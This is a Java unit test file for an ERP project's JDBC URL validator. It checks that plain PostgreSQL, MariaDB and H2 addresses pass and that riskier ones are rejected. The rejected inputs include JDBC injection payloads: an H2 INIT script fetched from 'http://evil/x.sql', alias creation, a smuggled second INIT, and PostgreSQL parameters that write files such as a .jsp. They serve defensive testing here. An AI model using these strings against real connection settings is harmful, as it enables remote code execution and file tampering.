package org.demandwright.erp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeUrlTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.example:5432/erp",
        "jdbc:postgresql://db.example/erp?currentSchema=public&sslmode=verify-full",
        "jdbc:mariadb://db.example:3306/erp?sslMode=verify-full",
        "jdbc:h2:tcp://localhost:9092/data/erp;SCHEMA=PUBLIC",
        "jdbc:h2:file:/data/erp;IFEXISTS=TRUE"
      })
  void a_plain_address_is_taken(String url) {
    assertThat(SafeUrl.of(url).text()).startsWith(url);
  }

  @Test
  void h2_never_makes_a_database() {
    assertThat(SafeUrl.of("jdbc:h2:file:/data/erp").text()).endsWith(";IFEXISTS=TRUE");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:tcp://localhost/erp;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:file:/data/erp;IFEXISTS=TRUE;init=create alias x as 'y'",
        "jdbc:h2:file:/data/erp;TRACE_LEVEL_FILE=4",
        "jdbc:h2:file:/data/erp;IFEXISTS=TRUE;MODE=x\\;INIT=y",
        "jdbc:h2:file:/data/../erp",
        "jdbc:h2:mem:erp",
        "jdbc:h2:zip:/etc/x.zip!/y",
        "jdbc:postgresql://h/erp?socketFactory=java.io.FileOutputStream&socketFactoryArg=/tmp/x",
        "jdbc:postgresql://h/erp?loggerFile=/tmp/x.jsp&loggerLevel=TRACE",
        "jdbc:postgresql://h/erp?user=postgres&password=x",
        "jdbc:postgresql:erp?sslfactory=x",
        "jdbc:mariadb://h/erp?allowLocalInfile=true",
        "jdbc:mariadb://h/erp?initSql=drop",
        "jdbc:mariadb:replication://h/erp?plugin=x",
        "jdbc:mysql://h/erp",
        "jdbc:oracle:thin:@h:1521:x",
        "http://h/erp",
        ""
      })
  void a_url_that_can_do_more_is_refused_with_what_is_allowed(String url) {
    assertThatThrownBy(() -> SafeUrl.of(url))
        .isInstanceOf(UnusableErp.class)
        .hasMessageContaining("JDBC URL");
  }
}
